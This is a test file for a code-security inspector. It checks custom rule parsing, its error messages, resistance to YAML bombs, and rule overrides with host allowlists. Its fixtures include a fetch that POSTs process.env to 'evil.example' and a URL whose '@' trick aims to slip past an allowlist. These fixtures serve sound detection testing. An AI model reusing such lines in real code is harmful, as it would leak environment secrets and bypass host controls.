import { readFileSync } from 'node:fs';
import { stringify } from 'yaml';
import type { Snippet } from '../../src/core/types';
import { createInspector } from '../../src/inspect';
import { checkOverrides, readRules } from '../../src/inspect/own-rules';
import { disproofs } from '../../src/inspect/prove';
import { builtInRules, NO_OVERRIDES, type Overrides } from '../../src/rules';
import { checkRules } from '../../src/rules/schema';
import { bareSnippet } from '../support/snippet';

const PAGE = readFileSync('docs/own-rules.md', 'utf8');
const EXAMPLES = [...PAGE.matchAll(/```yaml\n(- id:[\s\S]*?)```/g)].map(([, text = '']) => text);

const snippet = (source: string): Snippet => bareSnippet('javascript', source);

async function idsOf(source: string, overrides: Partial<Overrides>): Promise<readonly string[]> {
  const inspector = createInspector({ overrides: { ...NO_OVERRIDES, ...overrides } });
  const { security } = await inspector.inspect(snippet(source));
  return security.findings.map((finding) => `${finding.level} ${finding.ruleId}`);
}

const broken = (text: string) => {
  const read = readRules([{ file: 'own.yml', text }]);
  return read.ok ? [] : read.error.map(({ file, line, message }) => `${file}:${line} ${message}`);
};

describe("a repository's own rules", () => {
  it('are three worked examples in the documents, and prove themselves', async () => {
    expect(EXAMPLES).toHaveLength(3);
    const read = readRules(EXAMPLES.map((text, index) => ({ file: `example-${index}.yml`, text })));
    if (!read.ok) throw new Error(JSON.stringify(read.error));
    expect(await disproofs(read.value, createInspector({ rules: read.value }))).toEqual([]);
  });

  it('have the shape of the built-in ones', () => {
    for (let from = 0; from < builtInRules.length; from += 200) {
      const rules = builtInRules.slice(from, from + 200);
      expect(checkRules(JSON.parse(JSON.stringify(rules)))).toEqual({ rules });
    }
  });

  it('may be a list or a mapping, or nothing', () => {
    const [first = ''] = EXAMPLES;
    const listed = readRules([{ file: 'a.yml', text: first }]);
    const mapped = readRules([{ file: 'a.yml', text: `rules:\n${first.replace(/^/gm, '  ')}` }]);
    expect(mapped).toEqual(listed);
    expect(readRules([{ file: 'a.yml', text: '' }])).toEqual({ ok: true, value: [] });
  });

  it('name file, line and cure of every mistake at once', () => {
    const [first = ''] = EXAMPLES;
    const text = first
      .replace('severity: high', 'severity: huge')
      .replace('metadata: { capability: network }', 'metdata: {}');
    expect(broken(text)).toEqual([
      'own.yml:3 0.severity: expected low, medium or high',
      'own.yml:1 0.metadata: expected a mapping with capability and, if you like, cwe',
      'own.yml:6 0.metdata: unknown key metdata; remove it or mend its spelling',
    ]);
  });

  it('refuse a matcher that does not exist and an expression that could run away', () => {
    const rule = (match: object) =>
      stringify([
        {
          id: 'own/process/x',
          languages: ['bash'],
          severity: 'low',
          message: 'm',
          recommendation: 'r',
          metadata: { capability: 'process' },
          match,
        },
      ]);
    expect(broken(rule({ cal: 'rm' }))).toEqual([
      expect.stringContaining('expected a matcher: a mapping with one of call, import'),
    ]);
    expect(broken(rule({ string: { regex: '(a+)+$' } }))).toEqual([
      expect.stringContaining('repeats a group that itself repeats'),
    ]);
    expect(broken(rule({ string: { regex: '(' } }))).toEqual([expect.stringContaining('does not compile')]);
    expect(broken(rule({ call: 'rm', where: { arg: 0, is: 'big' } }))).toEqual([
      expect.stringContaining('one of literal, non-literal'),
    ]);
  });

  it('may not take the id of a built-in rule or of each other', () => {
    const [first = ''] = EXAMPLES;
    const clash = first.replace('own/network/internal-host', 'js/process/shell');
    expect(broken(clash)).toEqual([
      'own.yml:1 0.id: js/process/shell is the id of a built-in rule; choose another one',
    ]);
    const twice = readRules([
      { file: 'a.yml', text: first },
      { file: 'b.yml', text: first },
    ]);
    expect(twice.ok).toBe(false);
  });

  it('are no way to stop the machine: bombs are refused in time', () => {
    const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n`;
    const started = process.cpuUsage();
    expect(broken(bomb)).not.toEqual([]);
    expect(broken('['.repeat(60_000))).not.toEqual([]);
    expect(broken(`- ${'x'.repeat(200_000)}`)).not.toEqual([]);
    const { user, system } = process.cpuUsage(started);
    expect((user + system) / 1000).toBeLessThan(1500);
  });
});

describe('overrides', () => {
  const shell = "require('child_process').execSync('git status')";

  it('switch rules off, by id or pattern', async () => {
    expect(await idsOf(shell, { disable: ['js/process/*', 'sh/*'] })).toEqual([]);
  });

  it('change the severity', async () => {
    expect(await idsOf(shell, { severity: { 'js/process/shell': 'high' } })).toContain('error js/process/shell');
  });

  it('let a program name allowed hosts, and only these', async () => {
    const allow = { network: ['api.example.org', '*.example.net'] };
    expect(await idsOf("fetch('https://api.example.org/x')", { allow })).toEqual([]);
    expect(await idsOf("fetch('https://a.b.example.net/x')", { allow })).toEqual([]);
    expect(await idsOf("fetch('https://api.example.org@evil.example/x')", { allow })).toEqual([
      'note js/network/request',
    ]);
    expect(await idsOf("fetch('https://' + parameters.host)", { allow })).toEqual(['note js/network/request']);
  });

  it('keep combinations alive for every other host', async () => {
    const allow = { network: ['api.example.org'] };
    const sends = (host: string) => `fetch('https://${host}/', { method: 'POST', body: JSON.stringify(process.env) })`;
    expect(await idsOf(sends('evil.example'), { allow })).toContain('error any/environment-secrets/sent-away');
    expect(await idsOf(sends('api.example.org'), { allow })).not.toContain('error any/environment-secrets/sent-away');
  });

  it('cannot touch "not analysed"', async () => {
    const id = 'any/obfuscation/not-analysed';
    expect(await idsOf('(', { disable: ['*'], severity: { [id]: 'low' } })).toEqual([`warning ${id}`]);
    expect(checkOverrides({ ...NO_OVERRIDES, disable: [id] }, [])).toEqual([
      `security.overrides.disable: ${id} cannot be changed; remove it`,
    ]);
  });

  it('are told what is misspelt', () => {
    expect(
      checkOverrides({ ...NO_OVERRIDES, disable: ['js/process/shel', 'js/*'], severity: { nothing: 'low' } }, []),
    ).toEqual([
      'security.overrides.disable: there is no rule js/process/shel; did you mean js/process/shell?',
      'security.overrides.severity: there is no rule nothing; see docs/rules.md',
    ]);
  });
});
